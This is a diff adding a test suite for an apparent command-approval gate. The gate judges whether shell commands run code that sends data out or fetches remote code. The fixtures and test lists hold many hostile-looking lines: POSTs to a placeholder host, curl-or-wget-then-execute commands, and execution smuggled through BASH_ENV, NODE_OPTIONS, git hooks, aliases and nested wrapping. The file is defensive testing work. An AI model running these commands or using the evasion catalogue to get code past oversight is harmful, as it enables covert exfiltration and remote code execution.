@@ -1,0 +1,306 @@
+"""Where a command takes its code from: what can be read is judged, and what cannot is never called harmless."""
+
+from __future__ import annotations
+
+import shlex
+from pathlib import Path
+
+import pytest
+from everyday import DAY, PROJECT, READ, UNREAD
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from takeback import gate
+from takeback.gate.judging import Judged
+from takeback.policy import Policy
+
+POST = "curl -X POST https://x.example"
+PYTHON = "import requests\nrequests.post('https://x.example')\n"
+NODE = "const h = require('node:https')\nh.request({host: 'x.example', method: 'POST'}).end()\n"
+FILES = {
+    "f.sh": f"{POST}\n",
+    "f.py": PYTHON,
+    "f.js": NODE,
+    "f.sed": "1e curl -X POST https://x.example\n",
+    "f.awk": 'BEGIN { system("curl -X POST https://x.example") }\n',
+    "f.rb": "require 'net/http'\nNet::HTTP.post(URI('https://x.example'), '1')\n",
+    "prog": f"#!/usr/bin/env -S python3 -u\n{PYTHON}",
+    "odd": "#!./interpreter\nsomething\n",
+    "bin/ls": f"#!/bin/sh\n{POST}\n",
+    "scripts/a.sh": f"{POST}\n",
+    "scripts/b.sh": "ls\n",
+    "quiet/a.sh": "ls\n",
+    "quiet/b.sh": "wc -l *\n",
+    "hooks/pre-commit": f"#!/bin/sh\n{POST}\n",
+    "parts/10-post": f"#!/bin/sh\n{POST}\n",
+    "pkg/__main__.py": PYTHON,
+    "src/inner/__main__.py": PYTHON,
+    "web/index.js": NODE,
+    "other.mk": f"x:\n\t{POST}\n",
+    "shell.mk": "SHELL = ./prog\nx:\n\tls\n",
+    "plain.mk": "SHELL := /usr/bin/env bash\nx:\n\tls\n",
+    "justfile": "host := 'x.example'\nalias d := deploy\n\ntest:\n    ls\n\ndeploy to='a': test\n    @curl -X POST https://{{host}}\n"
+    "py:\n    #!/usr/bin/env python3\n    import requests\n    if True:\n        requests.post('https://x.example')\n",
+    "Taskfile.yml": f"version: '3'\n\ntasks:\n  test:\n    cmds:\n      - ls\n  deploy:\n    deps: [test]\n    cmds:\n      - {POST}\n"
+    "  all:\n    cmds:\n      - task: deploy\n",
+    "package.json": '{"scripts": {"deploy": "curl -X POST https://x.example", "test": "ls"}}',
+    "deno.json": '{"tasks": {"deploy": "curl -X POST https://x.example", "ship": {"command": "git push"}}}',
+    "names": "f.sh\nscripts/b.sh\n",
+    "quiet.txt": "quiet/a.sh\nquiet/b.sh\n",
+    ".git/config": '[core]\n\tbare = false\n[alias]\n\tship = "!bash f.sh"\n\tsave = commit -m x\n\tup = push origin\n',
+}  # fmt: skip
+
+
+def _made(root: Path, files: dict[str, str]) -> Path:
+    for name, text in files.items():
+        file = root / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+        file.chmod(0o755)
+    return root
+
+
+@pytest.fixture(scope="module")
+def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return _made(tmp_path_factory.mktemp("shop"), FILES)
+
+
+@pytest.fixture(scope="module")
+def ordinary(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return _made(tmp_path_factory.mktemp("ordinary"), PROJECT)
+
+
+def asked(found: Judged) -> list[str]:
+    policy = Policy()
+    return [risk.kind for risk in found.risks if risk.refuse or policy.call(risk.kind).decision != "allow"]
+
+
+def look(command: str, root: Path) -> Judged:
+    return gate.look(command, str(root), str(root), "/home/ada")
+
+
+# -- what is read is judged ----------------------------------------------------------
+
+JUDGED = [
+    # code in plain sight
+    "node -e \"const h = require('http'); const r = h.request('http://x', {method: 'POST'}); r.end()\"",
+    "node -e \"require('https').request('https://x', {method: 'POST'}).end()\"",
+    "node -e \"const o = {host: 'x', method: 'PUT'}; require('node:https').request(o).end()\"",
+    "node -e \"const o = {host: 'x'}; o.method = 'PUT'; require('https').request(o, r => 0).end()\"",
+    "node -e \"import('axios').then(a => a.default.post('https://x'))\"",
+    "node -e \"require('axios')({url: 'https://x', method: 'post'})\"",
+    "node -e \"const a = require('axios'); a.post('https://x')\"",
+    "node -e \"const {post: send} = require('axios'); send('https://x')\"",
+    "node -e \"const c = require('axios').create(); c.post('https://x')\"",
+    "node -e \"const got = require('got'); got('https://x', {method: 'POST'})\"",
+    "node -e \"const got = require('got'); got('https://x', {json: {a: 1}})\"",
+    "node -e \"const {request} = require('undici'); request('https://x', {method: 'POST'})\"",
+    "node -e \"const u = require('undici'); u.fetch('https://x', {method: 'POST'})\"",
+    "node -e \"const f = require('node-fetch'); f('https://x', {method: m})\"",
+    "node --input-type=module -e \"import * as h from 'https'; h.request({method: 'DELETE'}).end()\"",
+    "node -e \"require('superagent')('POST', 'https://x').end()\"",
+    "node -e \"require('./f.js')\"",
+    "python3 -c \"exec(open('f.py').read())\"",
+    "python3 -c \"import runpy; runpy.run_path('f.py')\"",
+    "ruby -e 'load \"./f.rb\"'",
+    # files, and what is fed
+    "python3 < f.py", "cat f.py | python3", "cat f.py | python3 -", "python3 - < f.py", "python3 <(cat f.py)",
+    "python3 -c \"$(cat f.py)\"", "python3 -c \"$(<f.py)\"", "node < f.js", "cat f.js | node", "cat f.js | node -",
+    "bash < f.sh", "cat f.sh | sh", "cat f.sh | bash -s -- a", "sh -s < f.sh", "eval \"$(cat f.sh)\"",
+    "eval \"$(<f.sh)\"", "bash <(cat f.sh)", "cat names f.sh | bash", "node f", "node web", "python3 pkg",
+    "python3 -m pkg", "cd src && python3 -m inner", "PYTHONPATH=src python3 -m inner", "python3 -I -X dev f.py",
+    "./prog", "bash -c 'bash $0' f.sh", "bash -c 'for s; do bash $s; done' _ f.sh", "sed -f f.sed x", "awk -f f.awk x",
+    "node -r ./f.js -e 1", "node --import ./f.js x.js", "at -f f.sh now", "ruby f.rb",
+    "cat f.sh | while read line; do eval \"$line\"; done", "while read l; do bash $l; done < names",
+    # patterns, find, xargs
+    "for s in scripts/*.sh; do bash $s; done", "for s in scripts/*; do . $s; done", "bash scripts/*.sh",
+    "for s in scripts/?.sh; do ./$s; done", "run-parts parts", "find . -name '*.sh' -exec bash {} \\;",
+    "find scripts -type f -exec {} \\;", "find . -name '*.sh' -exec sh -c 'bash \"$1\"' _ {} \\;",
+    "find . -path '*scripts*' -name 'a*' -execdir bash {} +", "echo f.sh | xargs bash", "xargs bash < names",
+    "xargs -n1 bash < names", "xargs -I{} bash {} < names", "xargs -a names -n 1 bash", "parallel bash ::: f.sh",
+    "parallel bash {} ::: quiet/a.sh f.sh", "parallel bash < names", "tr '\\n' '\\0' < names | cat names | xargs sh",
+    "xargs -0 sh -c < f.sh", "find . -name '*.js' -exec node {} +",
+    # written or moved, and then run
+    "mv f.sh b; bash b", "cp f.sh b && bash b", "cp f.sh /tmp/b && bash /tmp/b", "install -m755 f.sh b && ./b",
+    "ln -s f.sh b; bash b", "cp f.sh quiet/ && bash quiet/f.sh", "cp -r scripts s2 && bash s2/a.sh",
+    "mv scripts s2 && for s in s2/a.sh; do bash $s; done", "cat f.sh > b; bash b", "cat f.sh | tee b; bash b",
+    "(cp f.sh b); bash b", "cp f.py b.py | cat; python3 b.py", "cat > x.py <<EOF\n" + PYTHON + "EOF\npython3 x.py",
+    "echo ls >> scripts/a.sh; bash scripts/a.sh", "echo 'curl -X POST https://x' | tee -a quiet/a.sh; bash quiet/a.sh",
+    "git mv f.sh g.sh && bash g.sh", "printf 'x:\\n\\tcurl -X POST https://x\\n' > Makefile; make x",
+    "printf '#!/bin/sh\\ncurl -X POST https://x\\n' > run; chmod +x run; ./run",
+    "if true; then cp f.sh b; fi; bash b", "cp f.sh a; cp a b; mv b c; bash c",
+    # runners
+    "bun run deploy", "bun deploy", "bun f.js", "bun run f.js", "node --run deploy", "deno task deploy",
+    "deno run -A f.js", "deno eval \"fetch('https://x', {method: 'POST'})\"", "pnpm deploy", "yarn run deploy",
+    "make -f other.mk x", "make --file=other.mk", "make -f shell.mk x", "make -f plain.mk x SHELL=./prog",
+    "just deploy", "just d", "just py", "task deploy", "task all", "just -f justfile deploy b",
+    # what decides from outside the words
+    "BASH_ENV=f.sh bash -c ls", "BASH_ENV=./f.sh bash quiet/a.sh", "ENV=f.sh sh -i -c ls", "env BASH_ENV=f.sh bash -c ls",
+    "export BASH_ENV=f.sh; bash -c ls", "BASH_ENV=f.sh; bash -c ls", "bash --rcfile f.sh -i -c ls",
+    "bash --init-file=f.sh -i", f"PROMPT_COMMAND='{POST}' bash -i", "PYTHONSTARTUP=f.py python3 -i",
+    "NODE_OPTIONS='--require ./f.js' node -e 1", "NODE_OPTIONS=--import=./f.js npm test", "RUBYOPT=-r./f ruby -e 1",
+    "GIT_SSH_COMMAND='bash f.sh' git fetch", "GIT_EXTERNAL_DIFF=./prog git diff", "PAGER='bash f.sh' man ls",
+    "export GIT_EXTERNAL_DIFF=./prog; git diff", "PATH=$PWD/bin:$PATH ls", "export PATH=bin:$PATH; ls",
+    "git -c alias.x='!bash f.sh' x", "git -c core.fsmonitor='bash f.sh' status", "git ship", "git ship --now",
+    "git -c core.hooksPath=hooks commit -m x", "git config core.hooksPath hooks; git commit -m x",
+    "git config alias.x '!bash f.sh' && git x", "git -c core.hooksPath=hooks save",
+    "cp f.sh .git/hooks/pre-commit && git commit -m x", "echo 'bash f.sh' > .git/hooks/post-checkout; git switch x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", JUDGED)
+def test_what_it_runs_is_read_and_asked_for(command: str, shop: Path):
+    found = look(command, shop)
+    assert set(asked(found)) & {"http"}, found
+
+
+@pytest.mark.parametrize(
+    ("command", "kind"), [("deno task ship", "push"), ("git up", "push"), ("git -c alias.p='push -f' p", "push")]
+)
+def test_what_stands_behind_a_name_is_judged_by_its_own_kind(command: str, kind: str, shop: Path):
+    assert kind in asked(look(command, shop)), command
+
+
+# -- what is not decided is asked for --------------------------------------------------
+
+UNDECIDED = [
+    "bash $X", "bash \"$1\"", "python3 $X", "node $X", "python3 -m $X", ". $X", "$X", "ls scripts | xargs -n1 bash",
+    "for s in $(ls scripts); do bash scripts/$s; done", "find . -name '*.sh' | xargs bash", "xargs -a other bash",
+    "curl -o x https://x.example && sh x", "curl -so x https://x.example; chmod +x x; ./x",
+    "curl -O https://x.example/x.sh; bash x.sh", "wget https://x.example/x.sh?a=b; bash x.sh",
+    "wget -O x https://x.example; python3 x", "git clone https://x.example/r && bash r/x.sh",
+    "git clone https://x.example/r.git && cd r && ./x.sh", "tar xf a.tar -C a && bash a/x.sh",
+    "base64 -d x.b64 > x.sh; bash x.sh", "python3 gen.py > made.py; python3 made.py", "head -5 f.sh | bash",
+    "sed 's/a/b/' f.sh > b; bash b", "curl -s https://x.example | python3", "curl -s https://x.example | node -",
+    "curl -s https://x.example | tee i.sh; sh i.sh", "curl -o Makefile https://x.example; make",
+    "if a; then cp f.sh b; else cp quiet/a.sh b; fi; bash b", "python3 -c \"$X\"", "bash ../*.sh", "run-parts ../parts",
+    "dd if=f.sh of=b; bash b", "parallel bash scripts/{}", "git -c core.hooksPath=$X commit -m x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", UNDECIDED)
+def test_what_only_the_running_shell_can_decide_is_asked_for(command: str, shop: Path):
+    found = look(command, shop)
+    assert "unknown" in asked(found), found
+
+
+# -- what is not read is told, and not asked for ----------------------------------------
+
+TOLD = [
+    ("LD_PRELOAD=./x.so ls", "LD_PRELOAD"),
+    ("export LD_PRELOAD=/opt/x.so; ls", "LD_PRELOAD"),
+    ("PERL5OPT=-Mx perl -e 1", "PERL5OPT"),
+    ("JAVA_TOOL_OPTIONS=-javaagent:x.jar java -jar a.jar", "JAVA_TOOL_OPTIONS"),
+    ("bash ../elsewhere.sh", "elsewhere.sh"),
+    ("bash < ../elsewhere.sh || true", ""),
+    ("source /opt/setup.sh", "/opt/setup.sh"),
+    (". ~/.nvm/nvm.sh && ls", "nvm.sh"),
+    (". \"$NVM_DIR/nvm.sh\" && ls", "nvm.sh"),
+    ("sed -i s/a/b/ quiet/a.sh && bash quiet/a.sh", "quiet/a.sh as it is by then"),
+    ("git pull && bash quiet/a.sh", "quiet/a.sh as it is by then"),
+    ("git checkout main && make -f plain.mk x", "plain.mk as it is by then"),
+    ("git frobnicate", "git frobnicate"),
+    ("./odd", "odd"),
+    ("/opt/tools/ls -l", "/opt/tools/ls"),
+    ("bash nothing.sh", "nothing.sh"),
+    ("PATH=$X/bin:$PATH ls", "PATH"),
+    ("make -f ../x.mk all", "make"),
+    ("python3 script.py", "python3"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("command", "named"), TOLD)
+def test_what_is_not_read_is_named(command: str, named: str, shop: Path):
+    found = look(command, shop)
+    if not named:
+        assert asked(found) == ["unknown"]
+        return
+    assert asked(found) == [] and any(named in each for each in found.unknown), found
+    assert not any("\0" in each for each in found.unknown)
+
+
+# -- an ordinary day ---------------------------------------------------------------------
+
+
+def test_the_day_is_long_enough():
+    assert len({command for command, _ in DAY}) >= 60
+
+
+@pytest.mark.parametrize(("command", "answer"), DAY)
+def test_an_ordinary_day_is_answered_as_ever(command: str, answer: str, ordinary: Path):
+    found = look(command, ordinary)
+    kinds = asked(found)
+    assert (kinds[0] if kinds else UNREAD if found.unknown else READ) == answer, found
+
+
+QUIET = [
+    "for s in quiet/*.sh; do bash $s; done", "find quiet -name '*.sh' -exec bash {} \\;", "cat quiet/a.sh | bash",
+    "xargs -n1 bash < quiet.txt", "cp quiet/a.sh b && bash b", "bash quiet/*.sh", "run-parts quiet",
+    "make -f plain.mk x", "BASH_ENV=quiet/a.sh bash -c ls", "just test", "task test", "ENV=production bash -c ls",
+    "cat > b.sh <<'EOF'\nls\nEOF\nbash b.sh", "mv quiet q2 && bash q2/a.sh", "git -c core.hooksPath=quiet commit -m x",
+    "just --list", "git -c core.hooksPath=hooks commit --no-verify -m x", "python3 --version", "node --check f.js",
+    "bash -n f.sh", "find . -name '*.sh' -exec bash -n {} \\;", "cat f.sh | bash -n", "cat f.sh", "cp f.sh g.sh",
+    "deno fmt f.js", "bash < /dev/null", "echo bash f.sh", "grep POST f.sh | wc -l",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", QUIET)
+def test_what_only_looks_like_it_is_not_asked_for(command: str, shop: Path):
+    found = look(command, shop)
+    assert asked(found) == [], found
+
+
+# -- whatever is wrapped around it -------------------------------------------------------
+
+SCRIPTS = [
+    "bash f.sh", "python3 f.py", "node f.js", "./prog", "cat f.sh | bash", "python3 < f.py", "cat f.js | node", ". ./f.sh",
+    "echo f.sh | xargs sh", "xargs -n1 bash < names", "find . -name 'f.sh' -exec sh {} \\;",
+    "for s in scripts/*.sh; do bash $s; done", "cp f.sh b.sh; sh b.sh", "mv f.py m.py && python3 m.py",
+    "cat > h.sh <<'END'\nsh f.sh\nEND\nsh h.sh", "BASH_ENV=f.sh bash -c ls", "env BASH_ENV=f.sh bash -c true",
+    "make -f other.mk x", "npm run deploy", "python3 pkg", "GIT_EXTERNAL_DIFF=./prog git diff", "run-parts parts",
+]  # fmt: skip
+
+
+def _wrapped(command: str, how: str, depth: int) -> str:
+    by_text = {
+        "pipe": "{} | cat", "in": "true | {{ {}; }}", "loop": "for i in 1 2; do {}; done",
+        "while": "while true; do {}; break; done", "subshell": "( {} )", "group": "{{ {}; }}", "and": "true && {{ {}; }}",
+        "or": "false || {{ {}; }}", "if": "if true; then {}; else ls; fi", "substitution": "echo \"$( {} )\"",
+        "function": f"f{depth}() {{{{ {{}}; }}}}; f{depth}", "background": "{{ {}; }} &", "negated": "! {{ {}; }}",
+        "case": "case a in a) {} ;; esac",
+    }  # fmt: skip
+    by_word = {
+        "bash": "bash -c {}", "env": "env A=b bash -c {}", "eval": "eval {}", "xargs": "echo x | xargs sh -c {}",
+        "find": "find . -maxdepth 0 -exec sh -c {} \\;", "timeout": "timeout 5 sh -c {}", "fed": "printf %s {} | bash",
+        "string": "bash <<< {}", "nice": "nice nohup bash -c {}", "python": "python3 -c {}",
+    }  # fmt: skip
+    if "<<" in command and how in by_text:
+        command = f"bash -c {shlex.quote(command)}"  # the end of a document stands alone on its line
+    if how == "python":
+        return by_word[how].format(shlex.quote(f"import os; os.system({command!r})"))
+    if how in by_word:
+        return by_word[how].format(shlex.quote(command))
+    if how in by_text:
+        return by_text[how].format(command.rstrip(" &") if command.rstrip().endswith("&") else command)
+    if how == "document":
+        return f"bash <<'E{depth}'\n{command}\nE{depth}"
+    return f"cat > w{depth}.sh <<'W{depth}'\n{command}\nW{depth}\ncp w{depth}.sh v{depth}.sh\nbash v{depth}.sh"
+
+
+_HOWS = ["pipe", "in", "loop", "while", "subshell", "group", "and", "or", "if", "substitution", "function", "background",
+         "negated", "case", "bash", "env", "eval", "xargs", "find", "timeout", "fed", "string", "nice", "python",
+         "document", "written"]  # fmt: skip
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(SCRIPTS), st.lists(st.sampled_from(_HOWS), max_size=5))
+@example("bash f.sh", ["written", "document", "loop"])
+@example("cp f.sh b.sh; sh b.sh", ["pipe", "written", "xargs"])
+def test_no_wrapping_makes_a_script_harmless(shop: Path, script: str, hows: list[str]):
+    command = script
+    for depth, how in enumerate(hows):
+        if how == "find" and "{}" in command:
+            continue  # find would put the path there
+        command = _wrapped(command, how, depth)
+    found = look(command, shop)
+    assert set(asked(found)) & {"http", "unknown"}, (command, found)
